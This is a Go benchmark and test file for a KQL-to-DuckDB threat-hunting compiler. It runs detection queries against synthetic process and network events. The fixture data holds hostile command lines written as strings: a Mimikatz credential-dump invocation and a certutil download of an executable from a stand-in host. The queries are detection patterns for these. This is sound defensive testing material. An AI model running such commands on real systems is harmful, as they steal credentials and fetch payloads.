package exec_test

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kqlhunt/kqlhunt/exec"
	"github.com/kqlhunt/kqlhunt/kql"
)

// The hunting benchmark: 10 million process events (and 1 million network
// events) generated inside DuckDB with range(); each query runs as compiled
// KQL and as hand-written DuckDB SQL computing the same result. Compare the
// two sub-benchmarks of each query for the compiled/hand-written ratio:
//
//	go test ./exec -run '^$' -bench Hunting -benchtime 5x
//
// BENCH_ROWS overrides the row count.

var benchNow = time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)

func benchRows() int {
	if n, err := strconv.Atoi(os.Getenv("BENCH_ROWS")); err == nil && n > 0 {
		return n
	}
	return 10_000_000
}

func openBench(b testing.TB) *exec.Engine {
	b.Helper()
	ctx := context.Background()
	e, err := exec.Open(ctx, exec.Options{Now: benchNow})
	if err != nil {
		b.Fatal(err)
	}
	n := benchRows()
	stmts := []string{
		// 10M process events over the 30 days before benchNow
		`CREATE TABLE "DeviceProcessEvents" AS
		SELECT
			TIMESTAMP_NS '2024-03-01 12:00:00' - to_seconds(CAST(hash(i) % 2592000 AS BIGINT)) AS "Timestamp",
			'host-' || CAST(i % 5000 AS VARCHAR) AS "DeviceName",
			['cmd.exe', 'powershell.exe', 'rundll32.exe', 'svchost.exe', 'explorer.exe', 'chrome.exe', 'wmic.exe', 'certutil.exe', 'regsvr32.exe', 'mshta.exe'][CAST(1 + i % 10 AS INTEGER)] AS "FileName",
			CASE WHEN i % 997 = 0 THEN 'powershell.exe -nop -c Invoke-Mimikatz -DumpCreds'
			     WHEN i % 101 = 0 THEN 'certutil.exe -urlcache -split -f http://x/p.exe'
			     ELSE 'C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule' || CAST(i % 100 AS VARCHAR) END AS "ProcessCommandLine",
			'user' || CAST(i % 300 AS VARCHAR) AS "AccountName",
			['explorer.exe', 'cmd.exe', 'services.exe', 'winword.exe'][CAST(1 + i % 4 AS INTEGER)] AS "InitiatingProcessFileName"
		FROM range(` + strconv.Itoa(n) + `) AS t(i)`,
		`CREATE TABLE "DeviceNetworkEvents" AS
		SELECT
			TIMESTAMP_NS '2024-03-01 12:00:00' - to_seconds(CAST(hash(i + 7) % 2592000 AS BIGINT)) AS "Timestamp",
			'host-' || CAST(i % 5000 AS VARCHAR) AS "DeviceName",
			'10.0.' || CAST(i % 250 AS VARCHAR) || '.' || CAST(i % 200 AS VARCHAR) AS "RemoteIP",
			CAST([443, 80, 8080, 4444, 53][CAST(1 + i % 5 AS INTEGER)] AS INTEGER) AS "RemotePort"
		FROM range(` + strconv.Itoa(n/10) + `) AS t(i)`,
	}
	for _, s := range stmts {
		if _, err := e.DB().ExecContext(ctx, s); err != nil {
			b.Fatal(err)
		}
	}
	e.SetSchema(&kql.Schema{Tables: map[string]*kql.Table{
		"DeviceProcessEvents": {Name: "DeviceProcessEvents", Columns: []kql.Column{
			{Name: "Timestamp", Type: kql.TDatetime}, {Name: "DeviceName", Type: kql.TString},
			{Name: "FileName", Type: kql.TString}, {Name: "ProcessCommandLine", Type: kql.TString},
			{Name: "AccountName", Type: kql.TString}, {Name: "InitiatingProcessFileName", Type: kql.TString},
		}},
		"DeviceNetworkEvents": {Name: "DeviceNetworkEvents", Columns: []kql.Column{
			{Name: "Timestamp", Type: kql.TDatetime}, {Name: "DeviceName", Type: kql.TString},
			{Name: "RemoteIP", Type: kql.TString}, {Name: "RemotePort", Type: kql.TInt},
		}},
	}})
	if err := e.Lockdown(ctx); err != nil {
		b.Fatal(err)
	}
	return e
}

type huntQuery struct {
	name, kql, sql string
}

var huntQueries = []huntQuery{
	{"has",
		`DeviceProcessEvents | where ProcessCommandLine has "invoke-mimikatz" | count`,
		`SELECT count(*) FROM "DeviceProcessEvents" WHERE contains(lower("ProcessCommandLine"), 'invoke-mimikatz') AND regexp_matches("ProcessCommandLine", '(?i)(?:^|[^\pL\pN])invoke-mimikatz(?:$|[^\pL\pN])')`},
	{"contains",
		`DeviceProcessEvents | where ProcessCommandLine contains "urlcache" | summarize count() by DeviceName | count`,
		`SELECT count(*) FROM (SELECT "DeviceName", count(*) FROM "DeviceProcessEvents" WHERE contains(lower("ProcessCommandLine"), 'urlcache') GROUP BY 1)`},
	{"equals_ci",
		`DeviceProcessEvents | where FileName =~ "PowerShell.exe" | count`,
		`SELECT count(*) FROM "DeviceProcessEvents" WHERE lower("FileName") = 'powershell.exe'`},
	{"in_ci",
		`DeviceProcessEvents | where FileName in~ ("CMD.exe", "rundll32.exe", "MSHTA.EXE") | summarize n = count() by FileName`,
		`SELECT "FileName", count(*) AS n FROM "DeviceProcessEvents" WHERE lower("FileName") IN ('cmd.exe', 'rundll32.exe', 'mshta.exe') GROUP BY 1`},
	{"ago_window",
		`DeviceProcessEvents | where Timestamp > ago(1d) | count`,
		`SELECT count(*) FROM "DeviceProcessEvents" WHERE "Timestamp" > TIMESTAMP_NS '2024-02-29 12:00:00'`},
	{"summarize_bin",
		`DeviceProcessEvents | where Timestamp > ago(7d) | summarize n = count() by bin(Timestamp, 1h)`,
		`SELECT time_bucket(INTERVAL 1 hour, CAST("Timestamp" AS TIMESTAMP), TIMESTAMP '1970-01-01') AS t, count(*) AS n FROM "DeviceProcessEvents" WHERE "Timestamp" > TIMESTAMP_NS '2024-02-23 12:00:00' GROUP BY 1`},
	{"dcount_by",
		`DeviceProcessEvents | where InitiatingProcessFileName == "winword.exe" | summarize dcount(DeviceName) by FileName`,
		`SELECT "FileName", count(DISTINCT "DeviceName") FROM "DeviceProcessEvents" WHERE "InitiatingProcessFileName" = 'winword.exe' GROUP BY 1`},
	{"top",
		`DeviceProcessEvents | where FileName == "certutil.exe" | top 10 by Timestamp desc`,
		`SELECT * FROM "DeviceProcessEvents" WHERE "FileName" = 'certutil.exe' ORDER BY "Timestamp" DESC LIMIT 10`},
	{"join",
		`DeviceProcessEvents | where ProcessCommandLine has "invoke-mimikatz" | join kind=inner (DeviceNetworkEvents | where RemotePort == 4444) on DeviceName | count`,
		`SELECT count(*) FROM (SELECT * FROM "DeviceProcessEvents" WHERE contains(lower("ProcessCommandLine"), 'invoke-mimikatz') AND regexp_matches("ProcessCommandLine", '(?i)(?:^|[^\pL\pN])invoke-mimikatz(?:$|[^\pL\pN])')) AS p JOIN (SELECT * FROM "DeviceNetworkEvents" WHERE "RemotePort" = 4444) AS n ON p."DeviceName" = n."DeviceName"`},
	{"arg_max",
		`DeviceProcessEvents | where FileName == "mshta.exe" | summarize arg_max(Timestamp, AccountName) by DeviceName | count`,
		`SELECT count(*) FROM (SELECT "DeviceName", arg_max("AccountName", "Timestamp") FROM "DeviceProcessEvents" WHERE "FileName" = 'mshta.exe' GROUP BY 1)`},
}

func drain(b *testing.B, db *sql.DB, q string) {
	rows, err := db.QueryContext(context.Background(), q)
	if err != nil {
		b.Fatal(err)
	}
	for rows.Next() {
	}
	if err := rows.Err(); err != nil {
		b.Fatal(err)
	}
	rows.Close()
}

func BenchmarkHunting(b *testing.B) {
	e := openBench(b)
	defer e.Close()
	for _, q := range huntQueries {
		p, err := e.Compile(q.kql)
		if err != nil {
			b.Fatalf("%s: %v", q.name, err)
		}
		b.Run(q.name+"/compiled", func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				drain(b, e.DB(), p.SQL)
			}
		})
		b.Run(q.name+"/handwritten", func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				drain(b, e.DB(), q.sql)
			}
		})
	}
}

// TestHuntingQueriesAgree checks on a small table that each benchmark
// query's compiled SQL returns what its hand-written SQL returns, so the
// benchmark compares equal work.
func TestHuntingQueriesAgree(t *testing.T) {
	os.Setenv("BENCH_ROWS", "20000")
	defer os.Unsetenv("BENCH_ROWS")
	e := openBench(t)
	defer e.Close()
	for _, q := range huntQueries {
		p, err := e.Compile(q.kql)
		if err != nil {
			t.Fatalf("%s: %v", q.name, err)
		}
		got := countRows(t, e.DB(), p.SQL)
		want := countRows(t, e.DB(), q.sql)
		if got != want {
			t.Errorf("%s: compiled SQL returns %v, hand-written %v", q.name, got, want)
		}
	}
}

// countRows returns the rows as text, sorted, for comparison.
func countRows(t *testing.T, db *sql.DB, q string) string {
	t.Helper()
	rows, err := db.QueryContext(context.Background(), q)
	if err != nil {
		t.Fatalf("%s: %v", q, err)
	}
	defer rows.Close()
	cols, _ := rows.Columns()
	var out []string
	for rows.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		if err := rows.Scan(ptrs...); err != nil {
			t.Fatal(err)
		}
		s := ""
		for _, v := range vals {
			switch x := v.(type) {
			case time.Time:
				// the compiled SQL carries datetimes as ticks
				s += strconv.FormatInt(x.UnixNano()/100, 10) + "|"
			default:
				s += fmt.Sprint(x) + "|"
			}
		}
		out = append(out, s)
	}
	sort.Strings(out)
	return strings.Join(out, "\n")
}
